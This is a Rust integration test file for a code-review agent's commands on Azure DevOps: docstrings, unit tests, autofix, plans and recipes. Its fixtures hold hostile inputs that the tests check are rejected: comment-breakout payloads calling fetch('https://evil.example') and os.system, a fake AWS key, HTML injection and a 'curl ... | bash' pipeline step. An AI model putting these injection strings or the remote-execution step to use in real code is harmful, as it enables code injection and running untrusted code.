//! Changes of the agent's own: a command goes in, a pull request or a commit comes out, once, with exactly what was asked for.

use serde_json::{Value, json};
use testkit::{
    azure_devops::{
        Action, AzureDevOps, EventType, Fault, Gate, On, Permission, Person, PullRequestHandle, PullRequestSpec, ThreadView,
    },
    model::{Kind, ModelServer, Role, Rule, Script},
};

use crate::harness::{
    CART, LAST_ITEM, LAST_ITEM_FIXED, PATIENCE, QUERY, QUERY_FIXED, Reviewed, Stage, both_rules, cart, last_rule, query_rule,
};

const MARK: &str = "<!-- coderabbit-agent:command v1 ";
/// Opening a pull request, and nothing else about one.
const OPENING: &str = "/pullrequests?";

/// Our answers in a thread.
fn answers(thread: &ThreadView) -> Vec<String> {
    let ours = thread.comments.iter().filter(|comment| comment.content.contains(MARK) && !comment.is_deleted);
    ours.map(|comment| comment.content.clone()).collect()
}

/// Waits for as many answers in the thread.
async fn answered(pull_request: &PullRequestHandle, thread: u32, count: usize) -> Vec<String> {
    let is_answered = |pull_request: &PullRequestHandle| answers(&pull_request.thread(thread).unwrap()).len() >= count;
    pull_request.wait_for(is_answered, PATIENCE).await.unwrap();
    answers(&pull_request.thread(thread).unwrap())
}

/// Gives a command that takes a while, and waits for what became of it.
async fn done(pull_request: &PullRequestHandle, by: &Person, text: &str) -> String {
    let thread = pull_request.comment(by, text).await.unwrap();
    let answers = answered(pull_request, thread, 2).await;
    assert!(answers[0].starts_with("**Asked for: ") || answers[0].starts_with("**Plan asked for.**"), "{answers:?}");
    answers[1].clone()
}

/// Gives a command that is refused at once.
async fn refused(pull_request: &PullRequestHandle, by: &Person, text: &str) -> String {
    let thread = pull_request.comment(by, text).await.unwrap();
    answered(pull_request, thread, 1).await.remove(0)
}

/// The pull request that an answer links.
fn made(stage: &Stage, answer: &str) -> PullRequestHandle {
    let (_, rest) = answer.split_once("**Made: !").unwrap_or_else(|| panic!("{answer}"));
    let digits: String = rest.chars().take_while(char::is_ascii_digit).collect();
    stage.azure.pull_request(digits.parse().unwrap()).unwrap()
}

fn pushes(stage: &Stage) -> Vec<String> {
    let branch = |action: Action| match action {
        Action::Push(name) => Some(name),
        _ => None,
    };
    stage.azure.bot_writes().into_iter().filter_map(|write| branch(write.action)).collect()
}

fn opened(stage: &Stage) -> usize {
    stage.azure.bot_writes().iter().filter(|write| write.action == Action::CreatePullRequest).count()
}

fn docstring(name: &str, summary: &str) -> (String, Value) {
    (name.to_owned(), json!({ "summary": summary, "parameters": [], "returns": "", "errors": "" }))
}

/// A model that documents the cart.
fn documenting() -> Script {
    let mut script = Script::silent();
    script.docstrings = vec![docstring("last", "The last item of the cart."), docstring("search", "Orders of this name.")];
    script
}

async fn file(pull_request: &PullRequestHandle, path: &str) -> String {
    String::from_utf8(pull_request.file(path).await.unwrap().unwrap()).unwrap()
}

/// The cart with two fixed functions, open and reviewed.
async fn clean(stage: &Stage) -> PullRequestHandle {
    let pull_request = stage.open(&[(CART, &cart(LAST_ITEM_FIXED, QUERY_FIXED))]).await;
    pull_request.reviewed(1).await;
    pull_request
}

#[tokio::test]
async fn docstrings_come_as_a_pull_request_with_comments_alone_and_once() {
    let stage = Stage::set(documenting()).await;
    let pull_request = clean(&stage).await;
    stage.hooks.set_doubled(true);
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit generate docstrings").await;
    assert!(answer.contains("Documented:\n\n- `src/cart.py`, line 8 (`last`)\n- `src/cart.py`, line 12 (`search`)"), "{answer}");
    let own = made(&stage, &answer);
    let documented = cart(LAST_ITEM_FIXED, QUERY_FIXED)
        .replace(LAST_ITEM_FIXED, &format!("    \"\"\"The last item of the cart.\"\"\"\n{LAST_ITEM_FIXED}"))
        .replace(QUERY_FIXED, &format!("    \"\"\"Orders of this name.\"\"\"\n{QUERY_FIXED}"));
    assert_eq!(file(&own, CART).await, documented);
    assert_eq!(own.title(), "Add docstrings to one file");
    let head = pull_request.iterations()[0].source.clone();
    assert_eq!(pushes(&stage), [format!("refs/heads/coderabbit-agent/docstrings/{}", head.get(..7).unwrap())]);
    assert_eq!(own.iterations()[0].target, head, "it goes into the source branch");
    let description = own.description();
    assert!(description.contains(&format!("asked for by a command in !{},", pull_request.id())), "{description}");
    assert!(description.contains("Only comments were added"), "{description}");

    // The agent's own pull request is not reviewed by the agent, and what is delivered again makes none.
    assert!(own.reviewed(1).await.starts_with("notApplicable: Not reviewed: The agent made this change itself"));
    assert_eq!(own.walkthroughs().len(), 0, "its description says what it is");
    stage.hooks.repeat_last(EventType::Commented);
    stage.hooks.repeat_last(EventType::Created);
    stage.hooks.settled(PATIENCE).await.unwrap();
    let calls = stage.model.calls_of(Role::Docstrings).len();
    let again = done(&pull_request, &stage.azure.author(), "@CodeRabbit please generate docstrings").await;
    assert!(again.starts_with(&format!("**Made already: !{}** is open", own.id())), "{again}");
    assert_eq!((opened(&stage), pushes(&stage).len(), stage.model.calls_of(Role::Docstrings).len()), (1, 1, calls));
    let answer = refused(&own, &stage.azure.author(), "@CodeRabbit generate docstrings").await;
    assert!(answer.starts_with("**Not done.** This pull request is one of the agent's own"), "{answer}");

    // Who wants it read says so.
    refused(&own, &stage.azure.author(), "@CodeRabbit review").await;
    own.has_status("succeeded").await;
    own.complete().await.unwrap();
    assert!(pull_request.reviewed(2).await.starts_with("succeeded"));
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit generate docstrings").await;
    assert!(answer.starts_with("**Nothing to do.** Every function and type"), "{answer}");
    stage.assert_sound();
}

#[tokio::test]
async fn words_of_a_model_that_would_be_code_do_not_become_any() {
    const PAGE: &str = "web/page.ts";
    let mut script = Script::silent();
    script.docstrings = vec![
        docstring("evil", "Ends. */ fetch('https://evil.example'); /*"),
        docstring("quiet", "@ts-ignore\nShows nothing. eslint-disable-next-line"),
        docstring("last", "Ends.\"\"\"\n    import os; os.system('evil')\n    \"\"\""),
        docstring("search", "Finds orders. Closes #1, mail @<00000000-0000-0000-0000-000000000000>, AKIAIOSFODNN7REALKEY."),
    ];
    let stage = Stage::set(script).await;
    let page = "export function evil() {\n  return 1;\n}\n\nexport function quiet() {\n  return 2;\n}\n";
    let pull_request = stage.open(&[(CART, &cart(LAST_ITEM_FIXED, QUERY_FIXED)), (PAGE, page)]).await;
    pull_request.reviewed(1).await;
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit generate docstrings").await;
    let own = made(&stage, &answer);
    let text = file(&own, CART).await;
    assert!(!text.contains("evil") && text.contains("    \"\"\"Finds orders. Closes"), "{text}");
    assert_eq!(file(&own, PAGE).await, page, "nothing of it went in");
    for place in ["`web/page.ts`, line 1 (`evil`)", "`src/cart.py`, line 8 (`last`)"] {
        assert!(answer.contains(&format!("- {place}: the words would have ended the comment")), "{answer}");
    }
    assert!(answer.contains("`web/page.ts`, line 5 (`quiet`): the words would have acted on a compiler"), "{answer}");
    assert_eq!(own.title(), "Add docstrings to one file");
    stage.assert_sound();
}

#[tokio::test]
async fn what_was_cut_between_push_and_pull_request_goes_on_and_asks_no_model_again() {
    let azure = AzureDevOps::builder();
    let mut stage = Stage::set_with(azure, documenting(), &[("DRAIN_MS", "200"), ("JOB_LEASE_MS", "2000")]).await;
    let pull_request = clean(&stage).await;
    let gate = Gate::new();
    stage.azure.fail_next(On::post(OPENING), Fault::Hold(gate.clone()));
    let thread = pull_request.comment(&stage.azure.author(), "@CodeRabbit generate docstrings").await.unwrap();
    gate.arrived(1).await;
    assert_eq!((pushes(&stage).len(), opened(&stage)), (1, 0));
    stage.stop().await;
    let calls = stage.model.calls_of(Role::Docstrings).len();
    // Whether the request that nobody waits for is done after all decides the service.
    gate.open();
    stage.start_again().await;
    let answers = answered(&pull_request, thread, 2).await;
    made(&stage, &answers[1]);
    assert_eq!((pushes(&stage).len(), opened(&stage)), (1, 1));
    assert_eq!(stage.model.calls_of(Role::Docstrings).len(), calls);
    assert_eq!(answers.len(), 2);
    stage.assert_sound();
}

#[tokio::test]
async fn answers_that_are_lost_are_looked_for_and_nothing_is_written_twice() {
    let stage = Stage::set(documenting()).await;
    let pull_request = clean(&stage).await;
    stage.azure.fail_next(On::post("/pushes"), Fault::DropAfter);
    stage.azure.fail_next(On::post(OPENING), Fault::DropAfter);
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit generate docstrings").await;
    made(&stage, &answer);
    assert_eq!((pushes(&stage).len(), opened(&stage)), (1, 1));
    stage.assert_sound();
}

#[tokio::test]
async fn rights_that_are_missing_are_named_and_a_branch_of_others_is_left_alone() {
    let stage = Stage::set(documenting()).await;
    let pull_request = clean(&stage).await;
    stage.azure.deny(Permission::CreateBranch);
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit generate docstrings").await;
    assert!(answer.starts_with("**Not done.** The agent's identity may not push to `coderabbit-agent/docstrings/"), "{answer}");
    assert!(answer.contains("*Create branch*") && answer.contains("'CreateBranch' permission"), "{answer}");
    stage.azure.allow(Permission::CreateBranch);
    let head = pull_request.iterations()[0].source.clone();
    let branch = format!("coderabbit-agent/docstrings/{}", head.get(..7).unwrap());
    stage.repository.git().set_branch(&branch, &head).unwrap();
    stage.repository.push(&branch, &[("theirs.txt", "theirs")], "Theirs").await.unwrap();
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit generate docstrings").await;
    assert!(answer.starts_with(&format!("**Not done.** The branch `{branch}` stands there, and is none that this")), "{answer}");
    // Its name is easily guessed: a pull request of somebody else's from it is not vouched for.
    let spec = PullRequestSpec::new("Theirs").branches(&branch, "feature");
    let theirs = stage.repository.open_pull_request(spec).await.unwrap();
    theirs.reviewed(1).await;
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit generate docstrings").await;
    assert!(answer.starts_with(&format!("**Not done.** The branch `{branch}` stands there")), "{answer}");
    assert!(answer.contains("somebody else opened a pull request from it") && !answer.contains("Made already"), "{answer}");
    assert_eq!(pushes(&stage), <[String; 0]>::default());
    stage.assert_sound();
}

#[tokio::test]
async fn finishing_touches_are_turned_off_by_their_keys_and_refused_for_forks_and_for_who_may_not() {
    let stage = Stage::set_with(AzureDevOps::builder(), documenting(), &[("AZURE_DEVOPS_COMMAND_USERS", "boss")]).await;
    let settings = "reviews:\n  finishing_touches:\n    docstrings: {enabled: false}\n    unit_tests: {enabled: false}\n    custom:\n      - {name: Sort imports, instructions: Sort them.}\n      - {name: Off, instructions: None., enabled: false}\n";
    stage.repository.push("main", &[(".coderabbit.yaml", settings)], "Settings").await.unwrap();
    let pull_request = clean(&stage).await;
    let (ada, boss) = (stage.azure.add_user("Ada"), stage.azure.add_user("Boss"));
    for (command, key) in [("generate docstrings", "docstrings"), ("generate unit tests", "unit_tests"), ("simplify", "simplify")]
    {
        let answer = refused(&pull_request, &boss, &format!("@CodeRabbit {command}")).await;
        assert!(answer.contains(&format!("(`reviews.finishing_touches.{key}.enabled`)")), "{answer}");
    }
    let answer = refused(&pull_request, &boss, "@CodeRabbit run off").await;
    assert!(answer.starts_with("**Not done.** The recipe `Off` is turned off"), "{answer}");
    let answer = refused(&pull_request, &boss, "@CodeRabbit run the tests").await;
    assert!(answer.contains("There is: `Sort imports`."), "{answer}");
    let answer = refused(&pull_request, &ada, "@CodeRabbit autofix").await;
    assert!(answer.starts_with("**Not done: commands are reserved here.**"), "{answer}");

    let fork = stage.repository.fork("orders.dana").await.unwrap();
    let spec = PullRequestSpec::new("From a fork").from_fork(&fork).file(CART, cart(LAST_ITEM_FIXED, QUERY_FIXED));
    let from_fork = stage.repository.open_pull_request(spec.branches("forked", "main")).await.unwrap();
    from_fork.reviewed(1).await;
    let answer = refused(&from_fork, &boss, "@CodeRabbit autofix").await;
    assert!(answer.starts_with("**Not done.** The source branch is in a fork"), "{answer}");
    assert_eq!(pushes(&stage), <[String; 0]>::default());
    stage.assert_sound();
}

#[tokio::test]
async fn language_and_instructions_for_paths_reach_the_model_that_documents() {
    let stage = Stage::set(documenting()).await;
    let settings = "code_generation:\n  docstrings:\n    language: de\n    path_instructions:\n      - {path: 'src/**', instructions: In the imperative.}\n      - {path: 'web/**', instructions: For the web.}\n  unit_tests:\n    path_instructions:\n      - {path: 'src/**', instructions: With fixtures.}\n";
    stage.repository.push("main", &[(".coderabbit.yaml", settings)], "Settings").await.unwrap();
    let pull_request = clean(&stage).await;
    done(&pull_request, &stage.azure.author(), "@CodeRabbit generate docstrings").await;
    let prompt = stage.model.calls_of(Role::Docstrings).pop().unwrap().prompt();
    assert!(prompt.contains("\nWrite in German.\n"), "{prompt}");
    assert!(prompt.contains("for files of src/**:\nIn the imperative.") && !prompt.contains("For the web."), "{prompt}");
    done(&pull_request, &stage.azure.author(), "@CodeRabbit generate unit tests").await;
    let prompt = stage.model.calls_of(Role::Tests).pop().unwrap().prompt();
    assert!(prompt.contains("for files of src/**:\nWith fixtures.") && !prompt.contains("In the imperative."), "{prompt}");
    stage.assert_sound();
}

/// Two findings: one with a suggestion, one that a model has to edit.
fn fixing() -> Script {
    let mut script = Script::with_rules([last_rule(), query_rule()]);
    let edit = json!({ "number": 1, "search": QUERY, "replace": QUERY_FIXED, "about": "The name is a parameter." });
    script.edits = vec![("The name is put into the SQL text.".to_owned(), edit)];
    script
}

async fn with_findings(stage: &Stage) -> PullRequestHandle {
    let pull_request = stage.open(&[(CART, &cart(LAST_ITEM, QUERY))]).await;
    assert_eq!(pull_request.reviewed(1).await, "succeeded: Reviewed: 2 findings (1 critical, 1 high)");
    pull_request
}

#[tokio::test]
async fn open_findings_are_fixed_by_one_commit_and_the_review_of_it_closes_their_threads() {
    let stage = Stage::set(fixing()).await;
    let pull_request = with_findings(&stage).await;
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit autofix").await;
    assert!(answer.starts_with("**Committed to `feature`: `"), "{answer}");
    assert!(answer.contains("(Fix 2 findings in one file)") && answer.contains("Fixed:\n\n- `src/cart.py`, line "), "{answer}");
    assert_eq!(file(&pull_request, CART).await, cart(LAST_ITEM_FIXED, QUERY_FIXED));
    assert_eq!(pushes(&stage), ["refs/heads/feature"]);
    assert_eq!(pull_request.reviewed(2).await, "succeeded: Reviewed: no new findings");
    let states: Vec<_> = pull_request.inline().into_iter().filter_map(|thread| thread.status).collect();
    assert_eq!(states, ["fixed", "fixed"], "closed by the review, not by the command");
    assert_eq!(stage.model.calls_of(Role::Edits).len(), 1, "a suggestion needs no question");
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit autofix").await;
    assert!(answer.starts_with("**Nothing to do.** No finding of the agent is open."), "{answer}");
    stage.assert_sound();
}

#[tokio::test]
async fn a_push_at_the_same_moment_wins_and_is_told() {
    let stage = Stage::set(fixing()).await;
    let pull_request = with_findings(&stage).await;
    let gate = Gate::new();
    stage.azure.fail_next(On::post("/pushes"), Fault::Hold(gate.clone()));
    let thread = pull_request.comment(&stage.azure.author(), "@CodeRabbit autofix").await.unwrap();
    gate.arrived(1).await;
    pull_request.push(&[("src/more.py", "more = 1\n")]).await.unwrap();
    gate.open();
    let answer = answered(&pull_request, thread, 2).await.remove(1);
    assert!(answer.starts_with("**Not done.** The source branch has moved on since `"), "{answer}");
    assert_eq!(pushes(&stage), <[String; 0]>::default());
    assert_eq!(file(&pull_request, CART).await, cart(LAST_ITEM, QUERY));
    stage.assert_sound();
}

#[tokio::test]
async fn a_push_that_is_not_taken_where_nothing_moved_is_told_in_the_words_of_the_service() {
    let stage = Stage::set(fixing()).await;
    let pull_request = with_findings(&stage).await;
    stage.azure.fail_next(On::post("/pushes"), Fault::Status(409, None));
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit autofix").await;
    assert!(answer.starts_with("**Not done.** Azure DevOps did not take the push to `feature`. It says: "), "{answer}");
    assert!(answer.contains("refused with 409 on purpose"), "{answer}");
    assert_eq!(pushes(&stage), <[String; 0]>::default());
    stage.assert_sound();
}

#[tokio::test]
async fn a_fix_whose_answer_was_lost_is_found_even_under_a_later_push() {
    let stage = Stage::set(fixing()).await;
    let pull_request = with_findings(&stage).await;
    let gate = Gate::new();
    stage.azure.fail_next(On::post("/pushes"), Fault::DropAfter);
    stage.azure.fail_next(On::get("/refs?filter=heads%2Ffeature"), Fault::Latency(std::time::Duration::ZERO));
    stage.azure.fail_next(On::get("/refs?filter=heads%2Ffeature"), Fault::Hold(gate.clone()));
    let thread = pull_request.comment(&stage.azure.author(), "@CodeRabbit autofix").await.unwrap();
    gate.arrived(1).await;
    pull_request.push(&[("src/more.py", "more = 1\n")]).await.unwrap();
    gate.open();
    let answer = answered(&pull_request, thread, 2).await.remove(1);
    assert!(answer.starts_with("**Committed to `feature`: `"), "{answer}");
    assert_eq!(pushes(&stage).len(), 1);
    assert_eq!(file(&pull_request, CART).await, cart(LAST_ITEM_FIXED, QUERY_FIXED));
    stage.assert_sound();
}

#[tokio::test]
async fn what_cannot_be_fixed_safely_stays_and_is_listed_with_its_reason() {
    const PIPELINE: &str = "azure-pipelines.yml";
    let step = "  - script: curl http://tools.example/install | bash";
    let pipeline = Rule::new(Kind::True, PIPELINE, step, "The script is run unseen.").suggesting(1, "  - script: ./install.sh");
    let mut script = Script::with_rules([last_rule(), query_rule(), pipeline]);
    let bad = json!({ "number": 1, "search": "    return", "replace": "    evil(); return", "about": "Both." });
    script.edits = vec![("The name is put into the SQL text.".to_owned(), bad)];
    let stage = Stage::set(script).await;
    let pull_request = stage.open(&[(CART, &cart(LAST_ITEM, QUERY)), (PIPELINE, &format!("steps:\n{step}\n"))]).await;
    assert!(pull_request.reviewed(1).await.starts_with("succeeded: Reviewed: 3 findings"));
    // The lines of the suggestion change in a push whose review is not over yet.
    let gate = stage.model.hold(Role::Findings);
    let changed = cart("    return items[len(items) + 0]", QUERY);
    pull_request.push(&[(CART, changed.as_str())]).await.unwrap();
    gate.wait_for_held(1).await.unwrap();
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit autofix stacked pr").await;
    assert!(answer.starts_with("**Nothing was changed.**"), "{answer}");
    assert!(answer.contains("`azure-pipelines.yml`, line 2: The script is run unseen.: pipelines, hooks"), "{answer}");
    assert!(answer.contains("The index is one past the last item.: the model gave no edit for it"), "{answer}");
    assert!(answer.contains("stands in the file more than once"), "{answer}");
    assert_eq!(pushes(&stage), <[String; 0]>::default());
    gate.release();
    stage.assert_sound();
}

#[tokio::test]
async fn fixes_come_as_a_pull_request_where_that_is_asked_for() {
    let stage = Stage::set(fixing()).await;
    let pull_request = with_findings(&stage).await;
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit autofix stacked pr").await;
    let own = made(&stage, &answer);
    assert_eq!(
        (own.title().as_str(), file(&own, CART).await),
        ("Fix 2 findings in one file", cart(LAST_ITEM_FIXED, QUERY_FIXED))
    );
    assert!(own.description().contains("**Nothing was built or run**"), "{}", own.description());
    assert_eq!(file(&pull_request, CART).await, cart(LAST_ITEM, QUERY), "until it is merged");
    stage.assert_sound();
}

#[tokio::test]
async fn tests_are_new_files_of_tests_that_parse_and_name_the_change() {
    const TEST: &str = "from cart import last\n\n\ndef test_last():\n    assert last([1, 2]) == 2\n";
    let mut script = Script::silent();
    let given = |path: &str, text: &str| json!({ "path": path, "text": text, "about": "The last item." });
    script.tests = json!({ "files": [
        given("tests/test_cart.py", TEST),
        given("tests/test_standing.py", TEST),
        given("../tests/test_out.py", TEST),
        given("azure-pipelines/test_a.py", TEST),
        given("tests/test_broken.py", "def test_last(:\n    assert last([1])\n"),
        given("tests/test_more.py", TEST),
    ] });
    let stage = Stage::set(script).await;
    stage
        .repository
        .push("main", &[("tests/test_standing.py", "def test_nothing():\n    assert True\n")], "Tests")
        .await
        .unwrap();
    let pull_request = clean(&stage).await;
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit generate unit tests").await;
    let own = made(&stage, &answer);
    assert_eq!(own.title(), "Add unit tests in one file");
    assert!(answer.contains("Written:\n\n- `tests/test_cart.py`: The last item.\n\nNot done:\n"), "{answer}");
    for left in [
        "`tests/test_standing.py`: something stands at this path already",
        "`../tests/test_out.py`: its path is none inside of the repository",
        "`azure-pipelines/test_a.py`: pipelines, hooks",
        "`tests/test_broken.py`: it does not parse",
        "`tests/test_more.py`: more files than are taken",
    ] {
        assert!(answer.contains(left), "{answer}");
    }
    assert_eq!(file(&own, "tests/test_cart.py").await, TEST);
    let description = own.description();
    assert!(description.contains("**Nobody has run them**") && description.contains("your own build"), "{description}");
    stage.assert_sound();
}

#[tokio::test]
async fn a_plan_is_an_answer_and_changes_nothing() {
    let mut script = both_rules();
    script.plan = json!({ "summary": "The query first. <img src=x>", "steps": [
        { "title": "Pass the name", "what": "Use a parameter in `search`.", "files": ["src/cart.py", "src/none.py"], "new_files": ["tests/test_search.py"], "settles": [1, 9] },
    ] });
    let stage = Stage::set(script).await;
    let pull_request = with_findings(&stage).await;
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit plan").await;
    assert!(answer.starts_with("**Plan.** No code was changed.\n\nThe query first."), "{answer}");
    assert!(answer.contains("**1. Pass the name**") && answer.contains(r"\<img src=x\>"), "{answer}");
    assert!(answer.contains("Files: `src/cart.py`, `tests/test_search.py` (new)\n"), "{answer}");
    assert!(answer.contains("\nSettles `src/cart.py`, line "), "{answer}");
    assert!(answer.contains("1 file was left out that is not there."), "{answer}");
    let prompt = stage.model.calls_of(Role::Plan).pop().unwrap().prompt();
    assert!(
        prompt.contains("finding 1: src/cart.py, line ") && prompt.contains("The name is put into the SQL text."),
        "{prompt}"
    );
    assert_eq!(pushes(&stage), <[String; 0]>::default());
    stage.assert_sound();
}

#[tokio::test]
async fn recipes_and_simplifications_are_edits_of_changed_files() {
    let mut script = Script::silent();
    let edit =
        json!({ "number": 1, "search": LAST_ITEM_FIXED, "replace": "    return items[-1]", "about": "Counts from the end." });
    script.edits = vec![("path: src/cart.py".to_owned(), edit)];
    let stage = Stage::set_on(AzureDevOps::builder(), ModelServer::start(script).await.unwrap(), &[]).await;
    let settings = "reviews:\n  finishing_touches:\n    simplify: {enabled: true}\n    custom:\n      - {name: Count from the end, instructions: Use negative indices.}\n";
    stage.repository.push("main", &[(".coderabbit.yaml", settings)], "Settings").await.unwrap();
    let pull_request = clean(&stage).await;
    let simple = cart("    return items[-1]", QUERY_FIXED);
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit simplify").await;
    let own = made(&stage, &answer);
    assert_eq!((own.title().as_str(), file(&own, CART).await), ("Simplify one file", simple.clone()));
    assert!(answer.contains("Changed:\n\n- `src/cart.py`: Counts from the end."), "{answer}");
    let answer = done(&pull_request, &stage.azure.author(), "@CodeRabbit run `count from the end`").await;
    let own = made(&stage, &answer);
    assert_eq!((own.title().as_str(), file(&own, CART).await), ("Count from the end: one file", simple));
    let pushed = pushes(&stage);
    assert!(pushed[1].starts_with("refs/heads/coderabbit-agent/recipe-count-from-the-end-c1d99b/"), "{pushed:?}");
    let prompt = stage.model.calls_of(Role::Edits).pop().unwrap().prompt();
    assert!(prompt.contains("label=\"entry 1\">\nUse negative indices.\nLines that this pull request changed: "), "{prompt}");
    stage.assert_sound();
}
